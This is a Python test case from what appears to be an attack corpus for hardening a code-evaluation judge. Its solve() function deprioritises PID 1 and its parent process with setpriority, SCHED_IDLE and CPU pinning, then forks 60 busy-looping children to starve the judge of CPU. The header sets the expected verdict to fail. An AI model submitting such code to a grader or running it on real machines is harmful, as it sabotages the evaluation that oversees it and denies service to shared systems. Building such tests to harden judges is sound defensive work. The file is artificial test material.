# ID: 276
# SLUG: starve-the-agent
# CATEGORY: process
# ATTACK: puts the first process last in every queue of the scheduler and keeps every core busy
#     with 60 others
# VULNERABLE JUDGE: the judge does not hear of the end in time, or calls it a fault of ours
# MUST HAPPEN HERE: time is up; the verdict comes within its deadline
# EXPECT-VERDICT: fail   (never pass)
import os
import time

if os.environ.get("ATTACK_CORPUS_IN_SANDBOX") != "1" and (
    os.geteuid() == 0 or not (os.path.exists("/.dockerenv") or os.path.exists("/run/.containerenv"))
):
    raise RuntimeError("attack corpus: refusing to run as root or outside a container")


def solve(x):
    for target in (1, os.getppid()):
        try:
            os.setpriority(os.PRIO_PROCESS, target, 19)
            os.sched_setscheduler(target, os.SCHED_IDLE, os.sched_param(0))
            os.sched_setaffinity(target, {max(os.sched_getaffinity(0))})
        except OSError:
            pass
    end = time.monotonic() + 12
    for _ in range(60):
        try:
            if os.fork() == 0:
                os.setsid()
                while time.monotonic() < end:
                    os.getppid()
                os._exit(0)
        except OSError:
            break
    return "wrong-answer"
